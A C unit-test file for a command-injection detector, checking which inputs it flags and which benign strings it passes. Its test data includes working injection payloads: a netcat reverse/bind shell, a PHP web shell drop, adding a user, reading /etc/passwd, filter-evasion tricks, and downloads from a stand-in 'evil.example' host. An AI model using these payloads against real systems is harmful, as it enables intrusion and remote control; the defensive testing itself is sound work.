/* test_detect_cmd.c - OS command injection detector. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect.h"

#define DETECT_UNDER_TEST vigil__detect_cmd
#include "detect_level.h"

#define LVL(lit) level(lit, sizeof(lit) - 1)

static const char *detail_of(const char *s)
{
    vigil__finding f;
    memset(&f, 0, sizeof f);
    if (!vigil__detect_cmd(s, strlen(s), 3, &f))
        return "";
    return f.detail;
}

static void test_separators(void **state)
{
    (void)state;
    assert_int_equal(LVL("; whoami"), 1);
    assert_int_equal(LVL("x | uname -a"), 1);
    assert_int_equal(LVL("a && cat /etc/passwd"), 1);
    assert_int_equal(LVL("127.0.0.1 & ping -n 3 10.0.0.1"), 2);
    assert_int_equal(LVL("x\nls -la /"), 2);
    assert_int_equal(LVL("'; id; '"), 2);
    assert_int_equal(LVL("a|id"), 2);
    assert_int_equal(LVL("|/usr/bin/id|"), 1);
    assert_int_equal(LVL("; sleep 5"), 2);
    assert_int_equal(LVL("& type C:\\boot.ini"), 2);
    assert_int_equal(LVL("| dir c:\\"), 1);
    assert_int_equal(LVL("; net user hacker P4ss /ADD"), 2);
    assert_int_equal(LVL("; echo \"<?php system($_GET[c]); ?>\" > x.php"), 2);
    assert_int_equal(LVL("|| nc -lvvp 4444 -e /bin/sh"), 1);
    assert_int_equal(LVL("\";perf --version"), 2); /* unknown program, but a switch */
    assert_int_equal(LVL("time; ansible all -m ping"), 2);
    assert_int_equal(LVL(";rmt-tar"), 1);
    assert_int_equal(LVL("| grep root"), 2);           /* a separator opening the value */
    assert_int_equal(LVL("a=nc&&$a -nlvp 555"), 2);    /* a variable run as the program */
    assert_int_equal(LVL("c1=c;c2=a;c3=t;$c1$c2$c3 x"), 2);
    assert_int_equal(LVL(";\n.shell nc 10.0.0.1 4444 -e sh"), 2); /* sqlite3's shell escape */
    assert_string_equal(detail_of("; whoami"), "command after separator");
}

static void test_substitution(void **state)
{
    (void)state;
    assert_int_equal(LVL("$(whoami)"), 1);
    assert_int_equal(LVL("`id`"), 2);
    assert_int_equal(LVL("x=`cat /etc/passwd`"), 1);
    assert_int_equal(LVL("a$(sleep 5)b"), 2);
    assert_int_equal(LVL("<(curl http://evil.example/x)"), 1);
    assert_string_equal(detail_of("$(whoami)"), "command substitution");
    /* markdown / SQL identifiers: only at 3 */
    assert_int_equal(LVL("Run `ls -la` to list files"), 3);
    assert_int_equal(LVL("SELECT `id`, `name` FROM t"), 3);
    /* process substitution and $( ) closed around a command */
    assert_int_equal(LVL("<(cat file)"), 2);
    assert_int_equal(LVL("x $(cat notes) y"), 2);
    /* arithmetic and parameter expansion exist only in shells */
    assert_int_equal(LVL("$((7*6))"), 2);
    assert_int_equal(LVL("$(($()42))"), 2);
    assert_int_equal(LVL("$[2+2]"), 2);
    assert_int_equal(LVL("$[]"), 2);
    assert_int_equal(LVL("${PATH#{}/}"), 2);
    assert_int_equal(LVL("${HOME:-/tmp}"), 2);
    assert_int_equal(LVL("${!ref}"), 2);
}

static void test_obfuscation(void **state)
{
    (void)state;
    assert_int_equal(LVL(";c''at /etc/passwd"), 1);
    assert_int_equal(LVL(";c\\at /etc/passwd"), 1);
    assert_int_equal(LVL("|w\"h\"o\"am\"i"), 1);
    assert_int_equal(LVL(";cat${IFS}/etc/passwd"), 1);
    assert_int_equal(LVL(";cat$IFS$9/etc/passwd"), 1);
    assert_int_equal(LVL("'i'fconfig"), 1);
    assert_int_equal(LVL("pi$()ng 127.0.0.1"), 1);
    assert_int_equal(LVL("cu$@rl evil.example"), 1);
    assert_int_equal(LVL("{cat,/etc/passwd}"), 1);
    assert_int_equal(LVL("{,ifconfig}"), 1);
    assert_int_equal(LVL(";/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?"), 1); /* ;/???/??t */
    assert_int_equal(LVL("; /bi[n]/c[a]t /etc/hosts"), 1);
    assert_int_equal(LVL("garb=adduse[r];$garb pizza"), 1);
    assert_int_equal(LVL("{l,-lh}s"), 1);     /* brace expansion with a suffix: ls -lhs */
    assert_int_equal(LVL("{,ip,a}"), 1);
    assert_int_equal(LVL("{,$\"whoami\",}"), 1);
    assert_int_equal(LVL("$((7))z -wrapper sh,-c,curl x ."), 1); /* 7z */
    assert_int_equal(LVL("'TiMe Sh -c whoami"), 2);
    assert_int_equal(LVL("!-1!-2"), 2);      /* history expansion */
    assert_int_equal(LVL("~-1"), 2);         /* the directory stack */
    assert_int_equal(LVL("<a x=\"~+\"/>"), 2);
    assert_string_equal(detail_of(";c''at /etc/passwd"), "obfuscated command");
}

static void test_other_shapes(void **state)
{
    (void)state;
    assert_int_equal(LVL("() { :;}; /bin/bash -c id"), 1);        /* shellshock */
    assert_int_equal(LVL("<!--#exec cmd=\"id\"-->"), 1);          /* SSI */
    assert_int_equal(LVL("system('whoami')"), 1);
    assert_int_equal(LVL("exec(\"sleep 5\")"), 2);
    assert_int_equal(LVL("{${phpinfo()}}"), 2);
    assert_int_equal(LVL("$SHELL -c id"), 2);
    assert_int_equal(LVL("FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G"), 2);
    assert_int_equal(LVL("IF EXIST C:\\pagefile.sys echo yes"), 2);
    assert_int_equal(LVL("for /d %variable in (set) do command"), 2);
    assert_int_equal(LVL("if not (2 equ 2) echo hey"), 2);
    assert_int_equal(LVL("IF \"%~1\" == \"%~2\" (EXIT /B 0)"), 2);
    assert_int_equal(LVL("IF %_prog:~-1% NEQ \\ (Set _prog=%_prog%\\)"), 2);
    assert_int_equal(LVL("if (AA) == (AA) echo same"), 2);
    assert_int_equal(LVL("if/i a==b foo"), 2);
    /* cmd.exe programs, switches glued on or not */
    assert_int_equal(LVL("view=image.jpg&bcdboot/r file.txt"), 1);
    assert_int_equal(LVL("x&bcdboot < file.txt"), 1);
    assert_int_equal(LVL("netsh firewall set opmode disable"), 2);
    assert_int_equal(LVL("net view"), 2);
    /* shell aliases */
    assert_int_equal(LVL("alias a=b"), 2);
    assert_int_equal(LVL("alias 'letter'=curl&letter google.com"), 2);
    assert_int_equal(LVL("alias +m a=b"), 2);
    /* output sent into a system directory */
    assert_int_equal(LVL(">/tmp/curl"), 2);
    assert_int_equal(LVL("ls 2>/dev/null"), 2);
    assert_int_equal(LVL("x=\"cat /etc/passwd\""), 2);
    /* a value that is a command line */
    assert_int_equal(LVL("whoami"), 2);
    assert_int_equal(LVL("uname"), 3); /* also a common parameter name */
    assert_int_equal(LVL("ansible-galaxy collection install community.general\n"), 2);
    assert_int_equal(LVL("cscli alerts list"), 2);
    assert_int_equal(LVL("chef-shell\n"), 2);
    assert_int_equal(LVL("shutdown\n"), 2);
    assert_int_equal(LVL("bin/chef"), 2);
    assert_int_equal(LVL("c99 -wrapper sh,-c,curl google.com ."), 2);
    assert_int_equal(LVL("uname -a"), 2);
    assert_int_equal(LVL("cat /etc/hosts"), 2);
    assert_int_equal(LVL("wget https://evil.example/x.sh"), 2);
    assert_int_equal(LVL("sleep 5"), 2);
    assert_int_equal(LVL("ls"), 3);
    assert_int_equal(LVL("ping 127.0.0.1"), 3);
    assert_string_equal(detail_of("uname -a"), "command at start of value");
}

static void test_benign(void **state)
{
    (void)state;
    static const char *const ok[] = {
        "Tom & Jerry", "salt; pepper", "a | b", "rock & roll; jazz", "O'Brien", "I'd like that",
        "Cats & Dogs", "Java & Python", "Passport & ID", "Terms & Conditions", "AT&T",
        "select your plan", "Type your name", "Set your password", "Sleep 8 hours",
        "cat food", "dog & cat", "Hello\nid card is ready\nThanks", "Go to store.\nAt the store",
        "hello; time he came", "eat; sleep; repeat", "Find your solution here -> link",
        "if (a && b) { c(); }", "$(document).ready(function() { init(); });",
        "{id,name,email}", "fields={id,name}", "name=John&age=30", "x;y;z", "a||b",
        "https://example.com/search?q=shoes&size=10&id=5", "regedit ", "payload=C:\\Windows\\System32\\ls",
        "<b id=\"id1\">x</b>", "a=1&uname=john&id=5", "zsh%20is%20the%20best!",
        "if%20all%20else%20fails%20call%20grandma", "if x == 1: print(x)", "/* BAR */ UNION", "1 between 1 AND `id` having 0",
        "Mr. & Mrs. Smith; Dr. Jones", "Q&A; set", "data:image/png;base64,iVBORw0KGgo=",
        "The zip on my coat is stuck", "which one?", "C# and F#", "<3", "~user",
        /* CRS's benign look-alikes and the like */
        "I see, so your alias is not = to your name", "known by the alias \"pineapple\" online",
        "time null space\n", ";performance", ">/tmp", ">/test.environment", "~z", "~5 min read",
        "if (a == b) return;", "if x == 1 then return true", "if foo==", "ping 127.0.0.1",
        "kills foo bar", "rc", "Hello!-1", "Wow!!", "$[0].name", "$['store']", "$.store.book[*]",
        "Hello ${name}, welcome!", "${user.firstName}", "Cost is $5 ($10 off)", "/cgi-bin/search.cgi",
        "{x, y}", "{1,2,3}", "fields={id,name}", "data[index]", "page[1]", "uptime", "netstat",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "https://www.example.com/search?q=shoes&size=10&color=red", "docs/intro", "/docs/intro",
        "For more info, call us; for sales, press 1.", "alias for the field name"};
    for (size_t i = 0; i < sizeof ok / sizeof *ok; i++) {
        vigil__finding f;
        if (vigil__detect_cmd(ok[i], strlen(ok[i]), 2, &f))
            fail_msg("false positive at sensitivity 2: %s (%s)", ok[i], f.detail);
    }
}

static void test_robustness(void **state)
{
    (void)state;
    vigil__finding f;
    assert_int_equal(vigil__detect_cmd(NULL, 0, 2, &f), 0);
    assert_int_equal(vigil__detect_cmd("", 0, 2, &f), 0);
    assert_int_equal(vigil__detect_cmd("; whoami", 8, 2, NULL), 1);
    assert_int_equal(vigil__detect_cmd("; whoami", 3, 3, &f), 0); /* only n bytes */
    assert_int_equal(LVL("a\0; whoami"), 1);                     /* NUL inside */
    size_t n = (size_t)1 << 20;
    char *buf = malloc(n);
    assert_non_null(buf);
    static const char *const pats[] = {"; ls ", "=ls", "`", "(", "$IFS", "{,", "|", "'",
                                       "x=cat -a -b ", "; cat a a a a a a a a ", "${a#", "$((",
                                       "$[1+", "{a,", ";for %a in (x", ";if (", "$a", "!-1",
                                       "~-", ">/tmp/", "{l,-lh}s", ";alias a"};
    for (size_t p = 0; p < sizeof pats / sizeof *pats; p++) {
        size_t l = strlen(pats[p]);
        for (size_t i = 0; i < n; i++)
            buf[i] = pats[p][i % l];
        for (int sens = 1; sens <= 3; sens++)
            (void)vigil__detect_cmd(buf, n, sens, &f);
    }
    for (size_t i = 0; i < 4096; i++)
        buf[i] = (char)(i * 13 + (i >> 7));
    for (size_t len = 0; len < 4096; len += 101)
        (void)vigil__detect_cmd(buf, len, 3, &f);
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_separators),
        cmocka_unit_test(test_substitution),
        cmocka_unit_test(test_obfuscation),
        cmocka_unit_test(test_other_shapes),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_robustness),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
